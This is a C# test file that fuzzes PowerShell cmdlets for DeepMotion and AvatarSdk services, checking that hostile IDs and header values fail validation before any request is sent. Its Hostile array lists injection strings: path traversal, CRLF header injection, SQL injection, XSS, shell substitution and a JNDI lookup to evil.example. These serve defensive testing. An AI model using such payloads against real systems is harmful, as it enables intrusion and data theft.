using System.Management.Automation;
using AnimationTools.Tests.Infrastructure;

namespace AnimationTools.Tests.Reliability;

/// <summary>
/// Every parameter whose value becomes part of a request's path (ids, codes, rids, model ids, export codes, pipeline
/// names) and every one that becomes a header, given control characters, traversal, separators and injection strings:
/// each ends with an error before any request (the emulator's request log proves none left).
/// </summary>
[Trait("Category", ReliabilityTable.Category)]
public sealed class ParameterFuzzTests : DeepMotionTestBase
{
    /// <summary>Values no service gives as an id.</summary>
    static readonly string[] Hostile =
    [
        "a\r\nX-Evil: 1", "a\nb", "a\rb", "a\0b", "\u001b[31mred", "a\u007fb", "a\tb",
        "../../etc/passwd", "..", ".", "./a", "a/../b", "a/b", "/", "/a", "a\\b", "..\\..\\windows\\win.ini",
        "a?b=1", "?", "a#frag", "#", "%2e%2e", "%2e%2e%2fadmin", "..%2f..%2f", "a%00", "%0d%0aX-Evil:%201",
        "a b", " a", "a,b", "' OR '1'='1", "1; DROP TABLE jobs; --", "\"><script>alert(1)</script>", "$(whoami)",
        "`id`", "${jndi:ldap://evil.example/a}", "a&b=c", "a=b", "*", "a|b", "@evil.example", "\u202eexe.gpj",
        "ａｂｃ", "é", new string('a', 300),
    ];

    /// <summary>The parameters, as a command with <c>$v</c> in the place of the value.</summary>
    static readonly (string Service, string Command)[] PathBound =
    [
        ("DeepMotion", "Get-AnimationJob -Id $v"),
        ("DeepMotion", "Save-Animation -Rid $v -Destination $work"),
        ("DeepMotion", "Start-AnimationJob -RerunOf $v -Format bvh -Confirm:$false"),
        ("DeepMotion", "Get-CharacterModel -Id $v"),
        ("DeepMotion", "Remove-CharacterModel -Id $v -Confirm:$false"),
        ("DeepMotion", "Set-CharacterModel -Id $v -Name renamed -Confirm:$false"),
        ("DeepMotion", "Get-WebhookEndpoint -Id $v"),
        ("DeepMotion", "Set-WebhookEndpoint -Id $v -Event job.completed -Confirm:$false"),
        ("DeepMotion", "Remove-WebhookEndpoint -Id $v -Confirm:$false"),
        ("AvatarSdk", "Get-Avatar -Code $v"),
        ("AvatarSdk", "Set-Avatar -Code $v -Name renamed -Confirm:$false"),
        ("AvatarSdk", "Remove-Avatar -Code $v -Confirm:$false"),
        ("AvatarSdk", "Get-AvatarExport -AvatarCode $v"),
        ("AvatarSdk", "Get-AvatarExport -AvatarCode $okCode -ExportCode $v"),
        ("AvatarSdk", "New-AvatarExport -AvatarCode $v -ExportParameter @{ format = 'glb' } -Confirm:$false"),
        ("AvatarSdk", "Save-AvatarExport -AvatarCode $v -ExportCode $okCode -Destination $work"),
        ("AvatarSdk", "Save-AvatarExport -AvatarCode $okCode -ExportCode $v -Destination $work"),
        ("AvatarSdk", "Save-AvatarAsset -AvatarCode $v -Destination $work"),
        ("AvatarSdk", "Get-AvatarModelInfo -AvatarCode $v"),
        ("AvatarSdk", "Get-AvatarSelfie -Code $v"),
        ("AvatarSdk", "New-Avatar -Selfie $v -Confirm:$false"),
        ("AvatarSdk", "Get-AvatarParameter -Pipeline $v"),
        ("AvatarSdk", "Get-AvatarExportParameter -Pipeline $v"),
        ("AvatarSdk", "Get-AvatarStaticResource -Pipeline $v"),
        ("AvatarSdk", "Connect-AvatarSdk -Credential $cred -Endpoint $avatarEndpoint -PlayerUid $v"),
    ];

    /// <summary>Parameters that only become a header: control characters (a tab is a legal header character).</summary>
    static readonly (string Service, string Command)[] HeaderBound =
    [
        ("DeepMotion", "Connect-DeepMotion -Credential $cred -Endpoint $endpoint -UserUid $v"),
        ("AvatarSdk", "Connect-AvatarSdk -Credential $cred -Endpoint $avatarEndpoint -PlayerUid $v"),
    ];

    public ParameterFuzzTests(EmulatorFixture emulator) : base(emulator)
    {
        Shell.SetVariable("avatarEndpoint", emulator.AvatarSdkUrl);
        Shell.SetVariable("okCode", "3f1c0e2a-6b7d-4e7f-9a41-0c5d2b8e9f10");
    }

    int RequestCount() => Emulator.Requests("deepmotion").Count + Emulator.Requests("avatarsdk").Count;

    /// <summary>Runs each case; returns the number handled (an error before any request) and the failures.</summary>
    (int Handled, List<string> Failures) Fuzz(IEnumerable<(string Service, string Command)> commands, IEnumerable<string> values)
    {
        var handled = 0;
        var failures = new List<string>();
        foreach (var (service, command) in commands)
        {
            foreach (var value in values)
            {
                Shell.SetVariable("v", value);
                var before = RequestCount();
                var result = Shell.Run(command);
                var sent = RequestCount() - before;
                var errors = result.Errors;
                var typed = errors.Count > 0 && errors.All(e =>
                    (e.FullyQualifiedErrorId.StartsWith("ParameterArgumentValidationError,", StringComparison.Ordinal)
                     || e.FullyQualifiedErrorId.StartsWith(service + ".InvalidParameter.", StringComparison.Ordinal))
                    && e.CategoryInfo.Category != ErrorCategory.NotSpecified);
                if (sent == 0 && typed && result.Output.Count == 0)
                {
                    handled++;
                }
                else
                {
                    failures.Add($"{command} with {Escape(value)}: {sent} request(s), errors [{string.Join("; ", errors.Select(e => e.FullyQualifiedErrorId))}]");
                }
            }
        }
        return (handled, failures);
    }

    static string Escape(string value) => string.Concat(value.Take(40).Select(c => c < ' ' ? $"\\u{(int)c:x4}" : c.ToString()));

    [Fact]
    public void Path_bound_parameters_refuse_hostile_values_before_any_request()
    {
        Connect();
        Shell.Run("Connect-AvatarSdk -Credential $cred -Endpoint $avatarEndpoint -PollIntervalSeconds 0.1").ThrowOnError();

        var (handled, failures) = Fuzz(PathBound, Hostile);

        var trials = PathBound.Length * Hostile.Length;
        ReliabilityTable.Record(new ReliabilityRow
        {
            Area = "Both services", Case = $"path-bound parameters ({PathBound.Length}) fuzzed: control characters, traversal, separators, injection",
            Trials = trials, Faults = trials, Losses = 0, Hangs = 0, Handled = handled,
        });
        Assert.True(failures.Count == 0, string.Join("\n", failures));
    }

    [Fact]
    public void Header_bound_parameters_refuse_control_characters_before_any_request()
    {
        var controls = Hostile.Where(v => v.Any(c => c != '\t' && (c < ' ' || c == '\u007f'))).ToArray();

        var (handled, failures) = Fuzz(HeaderBound, controls);

        var trials = HeaderBound.Length * controls.Length;
        ReliabilityTable.Record(new ReliabilityRow
        {
            Area = "Both services", Case = "header-bound parameters (UserUid, PlayerUid) fuzzed with control characters",
            Trials = trials, Faults = trials, Handled = handled,
        });
        Assert.True(failures.Count == 0, string.Join("\n", failures));
        Assert.Empty(Shell.Run("Get-AnimationSession").ThrowOnError().Output);
    }

    [Theory]
    [InlineData("Save-Animation -Rid '1764547200-0123456789-0001' -Destination $work")]
    [InlineData("Get-AnimationJob -Id '1764547200-0123456789-0001', 'dm-stock-male'")]
    public void Real_ids_still_pass(string command)
    {
        Connect();

        var result = Shell.Run(command);

        Assert.DoesNotContain(result.Errors, e => e.FullyQualifiedErrorId.StartsWith("ParameterArgumentValidationError", StringComparison.Ordinal));
        Assert.NotEmpty(Emulator.Requests().Where(r => r.Path.Contains("1764547200-0123456789-0001")));
    }
}
